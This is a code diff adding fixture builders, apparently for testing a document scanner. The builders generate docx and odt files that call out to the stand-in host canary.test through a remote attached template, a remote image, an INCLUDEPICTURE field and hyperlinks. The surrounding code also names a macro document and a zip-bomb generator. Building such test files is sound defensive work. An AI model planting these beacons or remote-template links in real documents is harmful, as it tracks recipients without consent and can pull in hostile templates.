@@ -152,6 +152,48 @@ def docx_with_macro() -> bytes:
     )
 
 
+CALLS = "http://canary.test/"
+
+
+def docx_that_calls() -> bytes:
+    """Whoever opens it elsewhere is seen: by a template, a picture, an order in the words. One link only waits."""
+    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+    def relations(*rows: tuple[str, str]) -> str:
+        told = "".join(
+            f'<Relationship Id="rId{n}" Type="{kinds}/{kind}" Target="{CALLS}{name}" TargetMode="External"/>'
+            for n, (kind, name) in enumerate(rows)
+        )
+        return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{told}</Relationships>'
+
+    with zipfile.ZipFile(io.BytesIO(docx_with_macro())) as archive:
+        members = {name: archive.read(name) for name in archive.namelist() if "vba" not in name}
+    order = (
+        f'<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "{CALLS}order" </w:instrText></w:r></w:p>'
+    )
+    document = members["word/document.xml"].replace(b"</w:p>", order.encode(), 1)
+    return pack(
+        {
+            **members,
+            "word/document.xml": document,
+            "word/_rels/settings.xml.rels": relations(("attachedTemplate", "template.dotm")),
+            "word/_rels/document.xml.rels": relations(("image", "picture.png"), ("hyperlink", "followed")),
+        }
+    )
+
+
+def odt_that_calls() -> bytes:
+    words = (
+        '<office:document-content xmlns:xlink="http://www.w3.org/1999/xlink"><text:p>Read it '
+        f'<text:a xlink:type="simple" xlink:href="{CALLS}followed">here</text:a>'
+        f'<draw:image xlink:href="{CALLS}picture.png" xlink:type="simple"/>'
+        '<draw:image xlink:href="Pictures/one.png" xlink:type="simple"/></text:p></office:document-content>'
+    )
+    return pack(
+        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": words}, zipfile.ZIP_STORED
+    )
+
+
 def bomb() -> bytes:
     """Small, and grows to 600 MB."""
     packer = zlib.compressobj(9, zlib.DEFLATED, -15)
